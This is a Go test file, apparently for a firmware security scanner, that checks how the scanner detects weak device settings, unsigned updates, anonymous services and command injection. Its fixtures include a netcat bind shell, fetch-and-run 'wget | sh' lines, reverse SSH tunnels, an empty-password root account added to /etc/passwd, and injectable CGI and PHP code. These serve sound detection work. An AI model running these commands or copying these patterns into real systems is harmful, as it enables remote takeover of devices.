package system_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"assay/internal/collect/firmware/inspect"
	"assay/internal/collect/firmware/inspect/inspecttest"
	"assay/internal/collect/firmware/inspect/system"
)

type item struct {
	Kind string
	Line int
	Name string
}

func scan(path, text string) system.Report {
	return system.Scan(inspect.New(path, 0, []byte(text)), inspecttest.Find(system.Words(), []byte(text)))
}

func items(r system.Report) []item {
	var out []item
	for _, w := range r.Weaknesses {
		out = append(out, item{w.Kind, w.Line, w.Name})
	}
	return out
}

const sh = "#!/bin/sh\n"

func TestWeaknesses(t *testing.T) {
	t.Parallel()
	for _, row := range []struct {
		name, path, text string
		want             []item
	}{
		// Updates and clients.
		{"update", "/usr/sbin/up.sh", sh + "wget http://u.vendor-cloud.net/fw/x.bin\ncurl -sk https://u/x\nwget --no-check-certificate https://u/y\nflashcp /tmp/x /dev/mtd3\n", []item{
			{system.UpdateOverHTTP, 2, "http"}, {system.TLSVerifyDisabled, 3, "curl"}, {system.TLSVerifyDisabled, 4, "wget"}, {system.UpdateUnsigned, 5, "flashcp"}}},
		{"update-checked", "/usr/sbin/up.sh", sh + "curl --tlsv1.2 -fsS https://u/x.bin\nopenssl dgst -sha256 -verify p.pem -signature s x\nflashcp x /dev/mtd3\n", nil},
		{"update-comment-is-no-check", "/usr/sbin/up.sh", sh + "# signature is checked later\ncat x > /dev/mtdblock3\n", []item{{system.UpdateUnsigned, 3, "cat"}}},
		{"update-by-variable", "/usr/sbin/up.sh", sh + "U=http://u.vendor-cloud.net\nwget $U/fw.bin\n", nil},
		{"curl-value", "/a.sh", sh + "curl -o k https://u/x\ncurl -Hk https://u\ncurl -fsSk https://u\ncurl --insecure https://u\necho curl -k\n", []item{{system.TLSVerifyDisabled, 4, "curl"}, {system.TLSVerifyDisabled, 5, "curl"}}},
		{"reset", "/a.sh", sh + "flash_eraseall /dev/mtd4\nmtd erase rootfs_data\nreboot\n", nil},
		{"dd", "/a.sh", sh + "dd if=x of=/dev/mtdblock2 bs=64k\ndd if=/dev/mtd0 of=/tmp/backup\n", []item{{system.UpdateUnsigned, 2, "dd"}}},
		{"ciphers", "/a.sh", sh + "openssl enc -d -aes-128-ecb -K 0\nopenssl enc -d -aes-256-cbc -K 0\nopenssl des3 -in x\nopenssl enc -in des\n", []item{{system.WeakCipher, 2, "aes-128-ecb"}, {system.WeakCipher, 4, "des3"}}},
		{"python", "/a.py", "#!/usr/bin/python3\nrequests.get(u, verify=False)\nctx.verify_mode = ssl.CERT_NONE\nAES.new(k, AES.MODE_ECB)\n# verify=False\n", []item{{system.TLSVerifyDisabled, 2, "python"}, {system.TLSVerifyDisabled, 3, "python"}, {system.WeakCipher, 4, "python"}}},
		{"python-sound", "/a.py", "#!/usr/bin/python3\nrequests.get(u, verify=True)\nverify=ca\nAES.new(k, AES.MODE_GCM)\n", nil},
		{"setting", "/etc/agent.conf", "tls_insecure = true\nverify_peer: no\nssl_verify=1\nrejectUnauthorized: false\n", []item{{system.TLSVerifyDisabled, 1, "tls_insecure"}, {system.TLSVerifyDisabled, 2, "verify_peer"}, {system.TLSVerifyDisabled, 4, "rejectunauthorized"}}},
		{"program", "/usr/sbin/d", string(inspecttest.ELF{Data: "\x00wget http://u.vendor-cloud.net/fw/x.bin -O /tmp\x00curl -k -s https://api.vendor.net/v1\x00see http://x.org/fw/a.html\x00"}.Bytes()), []item{{system.UpdateOverHTTP, 0, "http"}, {system.TLSVerifyDisabled, 0, ""}}},
		{"library", "/usr/lib/libx.so.1", string(inspecttest.ELF{Data: "\x00http://u.vendor-cloud.net/fw/x.bin\x00"}.Bytes()), nil},
		// Frameworks.
		{"swupdate", "/etc/swupdate.cfg", "globals : {\n public-key-file = \"/etc/p.pem\";\n}\nsuricatta : {\n url = \"http://hawkbit.vendor.net\";\n}\n", []item{{system.UpdateOverHTTP, 5, "http"}}},
		{"mender", "/etc/mender/mender.conf", "{\n \"ServerURL\": \"https://m.vendor.net\",\n \"SkipVerify\": true\n}\n", []item{{system.UpdateUnsigned, 1, "mender"}, {system.TLSVerifyDisabled, 3, "mender"}}},
		{"mender-sound", "/etc/mender/mender.conf", "{\n \"ServerURL\": \"https://m.vendor.net\",\n \"ArtifactVerifyKey\": \"/etc/k.pem\"\n}\n", nil},
		{"opkg", "/etc/opkg.conf", "dest root /\nsrc/gz base http://f.vendor.net/p\n", []item{{system.UpdateUnsigned, 2, "opkg"}}},
		{"opkg-sound", "/etc/opkg.conf", "src/gz base http://f.vendor.net/p\noption check_signature\n", nil},
		{"apt", "/etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\ndeb [trusted=yes] http://x.vendor.net ./\n", []item{{system.UpdateUnsigned, 2, "apt"}}},
		{"yum", "/etc/yum.repos.d/a.repo", "[a]\nbaseurl=https://x\ngpgcheck=0\n", []item{{system.UpdateUnsigned, 3, "yum"}}},
		// Web servers and TLS.
		{"tls", "/etc/lighttpd.conf", "ssl.openssl.ssl-conf-cmd = (\"MinProtocol\" => \"TLSv1.1\", \"CipherString\" => \"HIGH:!RC4\")\n", []item{{system.WeakTLS, 1, "TLSv1.1"}}},
		{"tls-sound", "/etc/lighttpd.conf", "x = (\"MinProtocol\" => \"TLSv1.2\", \"CipherString\" => \"ECDHE+AESGCM:!RC4:-DES\")\n", nil},
		{"openssl", "/etc/ssl/openssl.cnf", "[system]\nMinProtocol = TLSv1\nCipherString = DEFAULT:@SECLEVEL=0\n", []item{{system.WeakTLS, 2, "TLSv1"}, {system.WeakTLS, 3, "@SECLEVEL=0"}}},
		{"openssl-sound", "/etc/ssl/openssl.cnf", "MinProtocol = TLSv1.2\nCipherString = DEFAULT@SECLEVEL=2\n", nil},
		{"nginx", "/etc/nginx/nginx.conf", "listen 80 default_server;\nssl_protocols TLSv1 TLSv1.2;\nssl_ciphers RC4:HIGH;\nautoindex on;\n", []item{{system.CleartextTransport, 1, "http"}, {system.WeakTLS, 2, "TLSv1"}, {system.WeakTLS, 3, "RC4"}, {system.DirectoryListing, 4, ""}}},
		{"nginx-sound", "/etc/nginx/nginx.conf", "listen 80;\nreturn 301 https://$host$request_uri;\nlisten 443 ssl;\nssl_protocols TLSv1.2 TLSv1.3;\nssl_ciphers HIGH:!aNULL;\n", nil},
		{"apache", "/etc/apache2/apache2.conf", "Listen 80\nOptions Indexes FollowSymLinks\nSSLProtocol all\nOptions -Indexes\n", []item{{system.CleartextTransport, 1, "http"}, {system.DirectoryListing, 2, ""}, {system.WeakTLS, 3, "all"}}},
		{"boa", "/etc/boa.conf", "# Port 21\nPort 80\n", []item{{system.CleartextTransport, 2, "http"}}},
		{"uhttpd", "/etc/config/uhttpd", "config uhttpd main\n\tlist listen_http '0.0.0.0:80'\n\tlist listen_https '0.0.0.0:443'\n", []item{{system.CleartextTransport, 2, "http"}}},
		{"uhttpd-sound", "/etc/config/uhttpd", "config uhttpd main\n\tlist listen_http '0.0.0.0:80'\n\toption redirect_https 1\n", nil},
		{"ports", "/etc/a.conf", "port = 1883\nserver.port = 443\n#port = 80\nsport=80\n\"rtsp_port\": 554,\n", []item{{system.CleartextTransport, 1, "mqtt"}, {system.CleartextTransport, 5, "rtsp"}}},
		{"json", "/etc/cloud.json", "{\"mqtt\":{\"host\":\"b.vendor.net, eu\",\"port\":1883},\"list\":[1,2],\"tls_insecure\":true,\n\"ftp\":\"ftp://f.vendor.net\"}", []item{{system.CleartextTransport, 1, "mqtt"}, {system.TLSVerifyDisabled, 1, "tls_insecure"}, {system.CleartextTransport, 2, "ftp"}}},
		{"prose", "/etc/a.conf", "see ftp://ftp.vendor.net/doc for more\n* ftp://a.vendor.net\nURL is http://u.vendor.net/fw/x.bin\npattern = ftp://[^/]*\n", nil},
		{"update-setting", "/etc/a.conf", "update_server http://u.vendor.net/fw/x.bin\nfirmware = \"http://u.vendor.net/fw/y.bin\"\n", []item{{system.UpdateOverHTTP, 1, "http"}, {system.UpdateOverHTTP, 2, "http"}}},
		{"header", "/usr/share/a.h", "port = 80\n", nil},
		{"library", "/usr/lib/python3/dist-packages/x/ssl.py", "#!/usr/bin/python3\nctx.verify_mode = ssl.CERT_NONE\n", nil},
		{"condition", "/opt/a.py", "#!/usr/bin/python3\nif mode == ssl.CERT_NONE:\n", nil},
		{"schemes", "/etc/a.ini", "broker=mqtt://b.vendor.net\nlocal=mqtt://127.0.0.1\nup=ftp://u:p@f.vendor.net/x\nsafe=mqtts://b\n", []item{{system.CleartextTransport, 1, "mqtt"}, {system.CleartextTransport, 3, "ftp"}}},
		{"form-get", "/www/a.html", "<form action=/l method=GET>\n<input type=password></form>\n<form method=post><input type=password></form><form action=/s method=get><input name=q></form>", []item{{system.LoginOverGet, 1, ""}}},
		// Requests that become commands.
		{"cgi", "/www/cgi-bin/a.cgi", sh + "eval \"$QUERY_STRING\"\nIP=$(echo \"$QUERY_STRING\" | cut -d= -f2)\nsh -c \"ping $IP\"\nping \"$IP\"\nupnpc -a 1 2 3 tcp\n", []item{{system.CommandInjection, 2, "eval"}, {system.CommandInjection, 4, "sh"}, {system.PortForward, 6, ""}}},
		{"php", "/www/a.php", "<?php\n$ip = $_GET['ip'];\nsystem(\"ping \" . $ip);\nexec('ls ' . $_POST['x']);\nsystem('ping ' . escapeshellarg($_GET['a']));\nsystem('reboot');\n$exec($x);\n", []item{{system.CommandInjection, 3, "system"}, {system.CommandInjection, 4, "exec"}}},
		{"lua", "/www/a.lua", "local h = luci.http.formvalue('host')\nlocal p = io.popen('ping ' .. h)\nos.execute('ping ' .. tonumber(h))\nos.execute('reboot')\n", []item{{system.CommandInjection, 2, "io.popen"}}},
		{"python-cgi", "/www/a.py", "import os\nx = form.getvalue('x')\nos.system('ls ' + x)\nos.system('ls')\n", []item{{system.CommandInjection, 3, "os.system"}}},
		{"browser", "/www/a.js", "/x/.exec(req.query);\n", nil},
		// Who gets in.
		{"sshd", "/etc/ssh/sshd_config", "PermitRootLogin yes\nPermitEmptyPasswords yes\nCiphers aes128-ctr,3des-cbc\n#Protocol 1\n", []item{{system.SSHRootPassword, 1, "sshd"}, {system.SSHEmptyPassword, 2, "sshd"}, {system.WeakSSH, 3, "3des-cbc"}}},
		{"sshd-keys", "/etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\nCiphers -3des-cbc\n", nil},
		{"dropbear-uci", "/etc/config/dropbear", "config dropbear\n\toption PasswordAuth 'on'\n\toption RootPasswordAuth 'on'\n", []item{{system.SSHRootPassword, 3, "dropbear"}}},
		{"dropbear", "/etc/init.d/S50", sh + "/usr/sbin/dropbear -R -B\nstart-stop-daemon -S -x /usr/sbin/dropbear -- -R -s\nstart-stop-daemon -K -x /usr/sbin/dropbear\n[ -x /usr/sbin/dropbear ]\nstart-stop-daemon -S -p /run/d.pid -x /usr/sbin/dropbear -- -R -P/var/run/swg.pid\n", []item{{system.SSHEmptyPassword, 2, "dropbear"}, {system.SSHRootPassword, 2, "dropbear"}, {system.SSHRootPassword, 6, "dropbear"}}},
		{"tunnel", "/a.sh", sh + "ssh -f -N -R 2222:localhost:22 u@h\nssh u@h\nsshpass -f /a nohup autossh -M 0 -NR2222:localhost:22 u@h\nscp -R a b\nkillall frpc\nnohup frpc -c /a &\n", []item{{system.ReverseTunnel, 2, "ssh"}, {system.ReverseTunnel, 4, "autossh"}, {system.ReverseTunnel, 7, "frpc"}}},
		{"snmp", "/etc/snmp/snmpd.conf", "rocommunity public\nrwcommunity s3cr\ncom2sec local default private\nrocommunity other\nsyslocation public\n", []item{{system.SNMPCommunity, 1, "public"}, {system.SNMPCommunity, 2, "s3cr"}, {system.SNMPCommunity, 3, "private"}}},
		{"sudo", "/etc/sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n#a ALL=NOPASSWD: ALL\n", []item{{system.SudoNoPassword, 2, "www-data"}}},
		{"mosquitto", "/etc/mosquitto/mosquitto.conf", "listener 1883 0.0.0.0\nallow_anonymous true\n", []item{{system.CleartextTransport, 1, "mqtt"}, {system.Anonymous, 2, "mqtt"}}},
		{"samba", "/etc/samba/smb.conf", "[share]\n guest ok = yes\n public = no\n", []item{{system.Anonymous, 2, "smb"}}},
		{"vsftpd", "/etc/vsftpd.conf", "anonymous_enable=YES\nlocal_enable=YES\n", []item{{system.Anonymous, 1, "ftp"}}},
		{"android", "/system/build.prop", "ro.debuggable=1\nro.adb.secure=0\nservice.adb.tcp.port=5555\nro.secure=1\n", []item{{system.DebugBuild, 1, "ro.debuggable"}, {system.ADBEnabled, 2, "ro.adb.secure"}, {system.ADBEnabled, 3, "service.adb.tcp.port"}}},
		// Wi-Fi.
		{"hostapd-open", "/etc/hostapd.conf", "interface=wlan0\nssid=cam\nchannel=1\n", []item{{system.WeakWiFi, 2, "open"}}},
		{"hostapd-wpa1", "/etc/hostapd.conf", "interface=wlan0\nssid=cam\nchannel=1\nwpa=1\nwpa_pairwise=TKIP\n", []item{{system.WeakWiFi, 4, "WPA1"}}},
		{"hostapd-sound", "/etc/hostapd.conf", "interface=wlan0\nssid=cam\nchannel=1\nwpa=2\nrsn_pairwise=CCMP\n", nil},
		{"supplicant", "/etc/wpa_supplicant.conf", "network={\n ssid=\"a\"\n psk=\"b\"\n}\nnetwork={\n ssid=\"c\"\n key_mgmt=NONE\n wep_key0=\"abcde\"\n}\n", []item{{system.WeakWiFi, 7, "WEP"}}},
		{"uci-wireless", "/etc/config/wireless", "config wifi-iface a\n\toption ssid 'x'\n\toption encryption 'none'\n\toption disabled '1'\nconfig wifi-iface b\n\toption encryption 'psk+tkip'\n", []item{{system.WeakWiFi, 6, "TKIP"}}},
		{"iwconfig", "/a.sh", sh + "iwconfig ra0 key s:abcde\niwconfig ra0 key off\niwconfig ra0 mode master\niwconfig ra0 key [2]\n", []item{{system.WeakWiFi, 2, "WEP"}, {system.WeakWiFi, 3, "open"}}},
		{"iwpriv", "/a.sh", sh + "iwpriv wlan1 set_mib encmode=0\niwpriv ra0 set AuthMode=WPA2PSK\niwpriv ra0 set EncrypType=WEP\niwpriv\n", []item{{system.WeakWiFi, 2, "open"}, {system.WeakWiFi, 4, "WEP"}}},
		{"guest-open", "/etc/Wireless/RT2860.dat", "SSID1=a\nSSID2=b\nAuthMode=WPA2PSK;OPEN\nEncrypType=AES;NONE\n", []item{{system.WeakWiFi, 3, "open"}}},
		{"guest-unused", "/etc/Wireless/RT2860.dat", "BssidNum=1\nSSID1=a\nSSID2=\nAuthMode=WPA2PSK;OPEN\n", nil},
		{"wifi-of-an-application", "/etc/net.ini", "[Net.Wifi]\nSSID=a\nEncrypType=WEP\n[Net.Lan]\nSecurity=none\n[Wlan2]\nAuthMode=WPA2PSK\n", []item{{system.WeakWiFi, 3, "WEP"}}},
		{"upnp-maps", "/etc/net.ini", "[Net.Upnp]\nEnable=1\nMapHttp=80\n[Upnp]\nEnable=1\nName=cam\n[Web]\nMapHttp=80\n", []item{{system.PortForward, 2, ""}}},
		// Settings in other forms.
		{"xml-attributes", "/etc/default.xml", "<Value Name=\"SNMP_RW_COMMUNITY\" Value=\"private\"/><Value Name=\"SNMP_RO_COMMUNITY\" Value=\"k3rTz\"/><V N=\"TELNET_ENABLE\" V=\"0\"/>\n<V N=\"TELNET_ENABLE\" V=\"1\"/>\n", []item{{system.SNMPCommunity, 1, "private"}, {system.TelnetEnabled, 2, "telnetd"}}},
		{"xml-update", "/etc/update.xml", "<updates>\n<server url=\"http://x.vendor.net/panel/\"/>\n<verify>false</verify>\n<key xmlns=\"http://schemas.vendor.com/x\"/>\n</updates>\n", []item{{system.UpdateOverHTTP, 2, "http"}, {system.UpdateUnsigned, 3, "verify"}}},
		{"xml-other", "/etc/menu.xml", "<item url=\"http://x.vendor.net/panel/\"/>\n<verify>false</verify>\n", nil},
		{"properties", "/opt/a.properties", "update.url=http\\://fw.vendor.net/ac\nupdate.check=none\nweb.url=http\\://www.vendor.net/\nupdate.check=daily\n", []item{{system.UpdateOverHTTP, 1, "http"}, {system.UpdateUnsigned, 2, "update.check"}}},
		{"update-check-off", "/opt/a.conf", "update_check=no\nupdate_url=https://x.vendor.net/\n", nil},
		{"dynamic-address", "/etc/config/ddns", "config service a\n\toption update_url 'http://x.vendor.net/nic/update?hostname=a'\n", nil},
		{"orbits", "/etc/gps.conf", "XTRA_SERVER_1=http://xtra1.vendor.net/xtra.bin\nLTO=http://x.vendor.net/lto2.dat\n", nil},
		{"acs", "/a.sh", sh + "tr069c -u http://acs.vendor.net:7547/ACS -U cpe\ntr069c -u https://acs.vendor.net/ACS\n", []item{{system.CleartextTransport, 2, "tr069"}}},
		{"acs-setting", "/etc/a.conf", "acs_url=http://m.vendor.net/x\nhelp_url=http://m.vendor.net/x\n", []item{{system.CleartextTransport, 1, "tr069"}}},
		{"ftp-password", "/a.sh", sh + "ftpput -u up -p x h /a b\nftpput h /a b\n", []item{{system.CleartextTransport, 2, "ftp"}}},
		{"section-with-brace", "/etc/asterisk/extensions.conf", "[x]\nexten => 1,1,System(/bin/echo ${CALLERID(num)})\nexten => 2,1,System(/bin/ring ${SOUND})\nexten => 3,1,Set(CURLOPT(ssl_verifypeer)=0)\n", []item{{system.CommandInjection, 2, "asterisk"}, {system.TLSVerifyDisabled, 4, ""}}},
		// Servers.
		{"mosquitto-inside", "/etc/mosquitto/a.conf", "per_listener_settings true\nlistener 1883 127.0.0.1\nallow_anonymous true\nlistener 1883 0.0.0.0\nallow_anonymous true\n", []item{{system.CleartextTransport, 4, "mqtt"}, {system.Anonymous, 5, "mqtt"}}},
		{"asterisk-manager", "/etc/asterisk/manager.conf", "[general]\nenabled=yes\nbindaddr = 0.0.0.0\n", []item{{system.CleartextTransport, 3, "ami"}}},
		{"asterisk-manager-inside", "/etc/asterisk/manager.conf", "[general]\nenabled=yes\nbindaddr = 127.0.0.1\n", nil},
		{"dovecot", "/etc/dovecot/dovecot.conf", "disable_plaintext_auth = no\n", []item{{system.CleartextTransport, 1, "imap"}}},
		{"dovecot-sound", "/etc/dovecot/dovecot.conf", "disable_plaintext_auth = yes\nssl = required\n", nil},
		{"resolver", "/etc/unbound/unbound.conf", "server:\n access-control: 0.0.0.0/0 allow\n access-control: 10.0.0.0/8 allow\n access-control: 0.0.0.0/0 refuse\n", []item{{system.Anonymous, 2, "dns"}}},
		{"proxy", "/etc/squid/squid.conf", "http_access allow localnet\nhttp_access allow all\nhttp_access deny all\n", []item{{system.Anonymous, 2, "proxy"}}},
		{"haproxy", "/etc/haproxy.cfg", " bind *:443 ssl crt /a.pem ssl-min-ver SSLv3\n bind *:444 ssl crt /a.pem ssl-min-ver TLSv1.2\n", []item{{system.WeakTLS, 1, "SSLv3"}}},
		{"syslog-peer", "/etc/rsyslog.conf", "$ActionSendStreamDriverAuthMode anon\n$ActionSendStreamDriverAuthMode x509/name\n", []item{{system.TLSVerifyDisabled, 1, "syslog"}}},
		{"ldap", "/etc/ldap/slapd.conf", "syncrepl rid=1 tls_reqcert=never\nsyncrepl rid=2 tls_reqcert=demand\n", []item{{system.TLSVerifyDisabled, 1, ""}}},
		{"kerberos", "/etc/krb5.conf", "[libdefaults]\n allow_weak_crypto = true\n permitted_enctypes = aes256-cts-hmac-sha1-96\n", []item{{system.WeakCipher, 2, "kerberos"}}},
		{"cups", "/etc/cups/cupsd.conf", "<Location /admin>\n Allow all\n</Location>\n<Location /admin/conf>\n AuthType Default\n Require user @SYSTEM\n Allow all\n</Location>\n<Location />\n Allow all\n</Location>\n", []item{{system.Anonymous, 1, "cups"}}},
		{"syslinux", "/syslinux.cfg", "DEFAULT linux\nPROMPT 1\nTIMEOUT 50\n", []item{{system.Bootloader, 2, "syslinux"}}},
		{"syslinux-closed", "/syslinux.cfg", "DEFAULT linux\nPROMPT 1\nALLOWOPTIONS 0\n", nil},
		{"dropbear-openrc", "/etc/conf.d/dropbear", "DROPBEAR_OPTS=\"-B -p 22\"\n", []item{{system.SSHEmptyPassword, 1, "dropbear"}, {system.SSHRootPassword, 1, "dropbear"}}},
		{"dropbear-openrc-keys", "/etc/conf.d/dropbear", "DROPBEAR_OPTS=\"-s -p 22\"\n", nil},
		{"device-files", "/etc/udev/rules.d/9.rules", "KERNEL==\"mem\", MODE=\"0666\"\nKERNEL==\"null\", MODE=\"0666\"\nKERNEL==\"mtd[0-9]*\", MODE=\"0660\"\nKERNEL==\"mtd[0-9]*\", MODE=\"0644\"\n", []item{{"device-open", 1, "mem"}, {"device-open", 4, "mtd[0-9]*"}}},
		{"device-files-mdev", "/etc/mdev.conf", "mem root:root 666\nnull root:root 666\nkmem root:root 640\n", []item{{"device-open", 1, "mem"}}},
		{"listener-piped", "/a.sh", sh + "while true; do busybox nc -l -p 9530 | /bin/sh; done\nbusybox nc -l -p 9531 > /tmp/x\n", []item{{system.Anonymous, 2, "nc"}}},
		{"adb-keys", "/adb_keys", strings.Repeat("QAAA", 180) + " eng@vendor\n", []item{{system.ADBEnabled, 1, "adb_keys"}}},
		{"adb-keys-empty", "/adb_keys", "\n", nil},
		{"superuser", "/a.sh", sh + "/system/xbin/daemonsu --auto-daemon &\n", []item{{system.DebugBuild, 2, "daemonsu"}}},
		{"transmission", "/etc/transmission.json", "{\n\"rpc-authentication-required\": false,\n\"rpc-enabled\": true\n}\n", []item{{system.Anonymous, 2, "rpc-authentication-required"}}},
		{"not-verified", "/etc/a.conf", "tlsdontverifyserver=yes\ntlsdontverifyserver=no\n", []item{{system.TLSVerifyDisabled, 1, "tlsdontverifyserver"}}},
		{"forwarding", "/etc/sysctl.conf", "net.ipv4.ip_forward=1\nnet.ipv4.tcp_syncookies=0\n", []item{{system.KernelWeak, 2, "net.ipv4.tcp_syncookies"}}},
		{"static-library", "/ns_turn_msg.o", "x", nil},
		{"object", "/opt/build/main.o", "x", []item{{system.Leftover, 0, "source"}}},
		{"header-of-a-version", "/opt/a.py", "from flask import request\ndef f():\n    if request.headers.get(\"X-Api-Version\") == \"2024-01\":\n        return 1\n", nil},
		{"cut-token", "/www/a.php", "<?php $token = strtok($x, rand(1,2));\n", nil},
		{"python-composed", "/web/app.py", "def ntp(q):\n    return subprocess.check_output(\"ntpdate \" + q[\"s\"], shell=True)\ndef ok(q):\n    return subprocess.check_output([\"ntpdate\", q[\"s\"]])\ndef own(q):\n    os.system(\"ntpdate \" + SERVER)\napp.run(host=\"0.0.0.0\")\n", []item{{system.CommandInjection, 2, "shell"}, {system.CleartextTransport, 7, "http"}}},
		{"python-tool", "/bin/tool.py", "def ntp(q):\n    return subprocess.check_output(\"ntpdate \" + q[\"s\"], shell=True)\n", nil},
		{"wrapped", "/a.sh", sh + "sudo env A=1 wget -qO- https://x.vendor.net/i | timeout 60 nice -n 5 sh\nbusybox wget https://x.vendor.net/u -O /tmp/new\nnohup setsid sh /tmp/new\n", []item{{system.UpdateUnsigned, 2, "sh"}, {system.UpdateUnsigned, 4, "sh"}}},
		{"check-ignored", "/a.sh", sh + "gpgv x.sig x || true\nflashcp x /dev/mtd3\n", []item{{system.UpdateUnsigned, 3, "flashcp"}}},
		{"check-told-only", "/a.sh", sh + "openssl dgst -verify k -signature s x || echo bad\nflashcp x /dev/mtd3\n", []item{{system.UpdateUnsigned, 3, "flashcp"}}},
		{"check-heeded", "/a.sh", sh + "gpgv x.sig x || exit 1\nopenssl dgst -verify k -signature s x || { echo bad; exit 1; }\nflashcp x /dev/mtd3\n", nil},
		{"from-a-card", "/a.sh", sh + "tar xzf /mnt/sdcard/u.tgz -C /\nunzip -o /mnt/usb/u.zip -d /usr/bin\ncp /mnt/sdcard/camd /usr/bin/camd\ntar xzf /mnt/sdcard/u.tgz -C /mnt/sdcard/x\ncp /usr/bin/camd /mnt/sdcard/\ncp /mnt/sdcard/wifi.txt /etc/wifi.txt\n", []item{{system.UpdateUnsigned, 2, "tar"}, {system.UpdateUnsigned, 3, "unzip"}, {system.UpdateUnsigned, 4, "cp"}}},
		{"from-a-card-checked", "/a.sh", sh + "gpgv /mnt/sdcard/u.sig /mnt/sdcard/u.tgz || exit 1\ntar xzf /mnt/sdcard/u.tgz -C /\n", nil},
		{"script-of-anybody", "/a.sh", sh + "[ -f /tmp/debug.sh ] && sh /tmp/debug.sh\nif [ -x /var/tmp/hook ]; then /var/tmp/hook; fi\n", []item{{system.PathWritable, 2, "debug.sh"}, {system.PathWritable, 3, "hook"}}},
		{"script-of-its-own", "/a.sh", sh + "echo reboot > /tmp/a.sh\n[ -f /tmp/a.sh ] && sh /tmp/a.sh\ncp /usr/share/b.sh /tmp/b.sh\n[ -f /tmp/b.sh ] && sh /tmp/b.sh\nsh /tmp/c.sh\n", nil},
		{"account-appended", "/a.sh", sh + "echo 'svc::0:0:root:/:/bin/sh' >> /etc/passwd\necho 'www:x:33:33::/:/bin/false' >> /etc/passwd\necho 'a::1' >> /tmp/x\n", []item{{system.EmptyPassword, 2, "svc"}}},
		{"capabilities", "/a.sh", sh + "setcap cap_setuid+ep /usr/bin/python3\nsetcap cap_net_bind_service=+ep /usr/sbin/httpd\n", []item{{system.SetUIDRoot, 2, "python3"}}},
		{"installed-set-uid", "/a.sh", sh + "install -m 4755 helper /usr/bin/helper\ninstall -m 0755 a /usr/bin/a\ninstall -m 666 a /etc/a\n", []item{{system.SetUIDRoot, 2, "helper"}, {system.WorldWritable, 4, "chmod"}}},
		{"device-made", "/a.sh", sh + "mknod -m 666 /dev/mem c 1 1\nmknod -m 666 /dev/null c 1 3\nmknod -m 600 /dev/mem c 1 1\n", []item{{"device-open", 2, "mem"}}},
		{"filter", "/a.sh", sh + "iptables -I INPUT -p tcp --dport 23 -j ACCEPT\niptables -A INPUT -p tcp --dport 23 -j DROP\niptables -A INPUT -s 10.0.0.0/8 -p tcp --dport 23 -j ACCEPT\niptables -A OUTPUT -p tcp --dport 23 -j ACCEPT\niptables -A INPUT -p tcp --dport 443 -j ACCEPT\n", []item{{system.FirewallOpen, 2, "23"}}},
		{"apt-forced", "/a.sh", sh + "apt-get -y --force-yes install x\napt-get -y install x\n", []item{{system.UpdateUnsigned, 2, "apt-get"}}},
		{"documentation", "/usr/share/doc/a", "wget http://u/fw/x.bin\n", nil},
	} {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			if d := cmp.Diff(row.want, items(scan(row.path, row.text))); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestUpdates(t *testing.T) {
	t.Parallel()
	for _, row := range []struct {
		name, path, text                            string
		mechanism, scheme, signature, rollback, key string
	}{
		{"script", "/a.sh", sh + "URL=http://u.vendor-cloud.net/fw/x.bin\nflashcp x /dev/mtd3\n", "script", "http", system.NotSeen, system.NotSeen, ""},
		{"script-checked", "/a.sh", sh + "wget https://u.vendor-cloud.net/fw/x.bin\n[ $NEW_VERSION -lt $VERSION ] && exit\ngpgv x.sig x\nflashcp x /dev/mtd3\n", "script", "https", system.Checked, system.Checked, ""},
		{"swupdate", "/etc/swupdate.cfg", "globals : {\n public-key-file = \"/etc/p.pem\";\n no-downgrading = \"2.0\";\n}\n", "swupdate", "", system.Checked, system.Checked, "/etc/p.pem"},
		{"swupdate-open", "/etc/swupdate.cfg", "globals : {\n verbose = true;\n}\n", "swupdate", "", system.NotSeen, system.NotSeen, ""},
		{"rauc", "/etc/rauc/system.conf", "[system]\ncompatible=cam\n[keyring]\npath=/etc/rauc/ca.pem\n", "rauc", "", system.Checked, system.NotSeen, "/etc/rauc/ca.pem"},
		{"mender", "/etc/mender/mender.conf", "{\"ServerURL\": \"https://m.vendor.net\"}\n", "mender", "https", system.NotSeen, system.NotSeen, ""},
		{"opkg", "/etc/opkg.conf", "src/gz base http://f.vendor.net/p\noption check_signature\n", "opkg", "http", system.Checked, system.NotSeen, ""},
		{"apt", "/etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\n", "apt", "http", system.Checked, system.Checked, ""},
		{"program", "/usr/sbin/d", string(inspecttest.ELF{Imports: []string{"EVP_DigestVerifyFinal"}, Data: "\x00https://u.vendor-cloud.net/fw/x.bin\x00"}.Bytes()), "program", "https", system.Checked, system.NotSeen, ""},
		{"u-boot", "/etc/fw_env.config", "/dev/mtd1 0 0x10000 0x10000\n", "u-boot-env", "", "", system.NotSeen, ""},
	} {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			r := scan(row.path, row.text)
			if len(r.Updates) != 1 {
				t.Fatalf("%+v", r)
			}
			u := r.Updates[0]
			if u.Mechanism != row.mechanism || u.Scheme != row.scheme || u.Signature != row.signature || u.Rollback != row.rollback || u.Key != row.key {
				t.Errorf("%+v", u)
			}
		})
	}
}

func TestCredentialsOfAddressesAreLeftOut(t *testing.T) {
	t.Parallel()
	for _, w := range scan("/etc/a.ini", "up=ftp://user:hunter2@f.vendor.net/x\n").Weaknesses {
		if strings.Contains(w.Text, "hunter2") || !strings.Contains(w.Text, "f.vendor.net") {
			t.Errorf("%+v", w)
		}
	}
}

func TestHostile(t *testing.T) {
	t.Parallel()
	for _, row := range []struct{ path, unit string }{
		{"/a.sh", "curl -k "}, {"/a.sh", "curl -k x\n"}, {"/a.conf", "ssl_protocols "}, {"/www/a.html", "<form>"}, {"/www/a.html", "<form><form></form>"}, {"/www/a.php", "system($_GET[a]);"}, {"/a.php", "<?php $a=$_GET[b];system($a);\n"},
		{"/a.sh", "flashcp x /dev/mtd\n"}, {"/bin/x", "\x00http://a/fw/b "}, {"/a.py", "verify=False "}, {"/etc/hostapd.conf", "wpa=1\nnetwork=\n"}, {"/etc/snmpd.conf", "rwcommunity a\n"},
	} {
		if r := scan(row.path, strings.Repeat(row.unit, 128<<10/len(row.unit))); len(r.Weaknesses) > 1001 {
			t.Errorf("%q: %d weaknesses", row.unit, len(r.Weaknesses))
		}
	}
}

func FuzzScan(f *testing.F) {
